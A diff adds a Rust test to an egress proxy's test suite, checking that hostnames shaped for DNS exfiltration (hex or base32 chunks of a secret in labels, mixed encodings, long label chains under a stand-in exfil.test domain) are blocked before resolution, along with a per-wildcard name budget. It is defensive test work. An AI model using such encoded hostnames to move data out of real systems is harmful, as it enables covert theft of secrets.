@@ -130,6 +130,61 @@ async fn dns_exfiltration_shapes_are_blocked_before_resolution() {
     assert_eq!(h.resolver.calls(), vec!["api.exfil.test"]);
 }
 
+/// Issue 12, class 1: encodings spread over labels, long chains, mixed
+/// encodings and, for words, the budget of distinct names per wildcard; a
+/// name an exact entry allows is never judged by shape.
+#[tokio::test]
+async fn issue12_hostname_exfiltration_classes() {
+    let mut h = Harness::new();
+    h.loopback()
+        .allow("*.exfil.test")
+        .allow("d1a2b3c4d5e6f7a8.cdn.test");
+    h.cfg.limits.max_names_per_wildcard = 6;
+    let proxy = h.start().await;
+    let hexed: String = b"secret!!".iter().map(|b| format!("{b:02x}")).collect();
+    let cases = [
+        // Hex chunks spread over labels (each label short).
+        (
+            format!("{}.{}.exfil.test", &hexed[..8], &hexed[8..]),
+            "hex-label",
+        ),
+        // Base32 at 16 characters, upper case as sent.
+        ("MFRGGZDFMZTWQ2LK.exfil.test".to_string(), "base32-label"),
+        // Mixed encodings across labels.
+        (
+            "a1b2c3d4e5.mfrgg2d.x9k3.exfil.test".to_string(),
+            "high-entropy-label",
+        ),
+        // A long chain of short labels.
+        ("se.cr.et.da.ta.exfil.test".to_string(), "chunked-labels"),
+    ];
+    for (host, rule) in &cases {
+        let r = get(proxy.addr(), &format!("http://{host}/")).await;
+        assert_blocked(&r, 403, &format!("dns-exfil:{rule}"));
+    }
+    assert!(h.resolver.calls().is_empty(), "{:?}", h.resolver.calls());
+    // Dictionary words pass the shape checks, but each new name is a
+    // lookup: past the budget, new names are refused before resolution.
+    for w in ["raw", "objects", "api", "apple", "banana", "cherry"] {
+        let r = get(proxy.addr(), &format!("http://{w}.exfil.test/")).await;
+        assert_blocked(&r, 502, "resolve:no-address");
+    }
+    let r = get(proxy.addr(), "http://damson.exfil.test/").await;
+    assert_blocked(&r, 403, "dns-exfil:too-many-names");
+    // A name already used costs nothing more.
+    let r = get(proxy.addr(), "http://raw.exfil.test/").await;
+    assert_blocked(&r, 502, "resolve:no-address");
+    // Benign twin: a CDN name with a hex-like id that the user allowed
+    // exactly is resolved, not judged by shape.
+    let r = get(proxy.addr(), "http://d1a2b3c4d5e6f7a8.cdn.test/").await;
+    assert_blocked(&r, 502, "resolve:no-address");
+    let calls = h.resolver.calls();
+    assert!(!calls.iter().any(|c| c.starts_with("damson")), "{calls:?}");
+    assert!(calls.iter().any(|c| c == "d1a2b3c4d5e6f7a8.cdn.test"));
+    let log = h.audit_text();
+    assert!(!log.contains(&hexed[..8]), "{log}");
+}
+
 #[tokio::test]
 async fn secrets_in_headers_are_blocked() {
     let mut h = Harness::new();
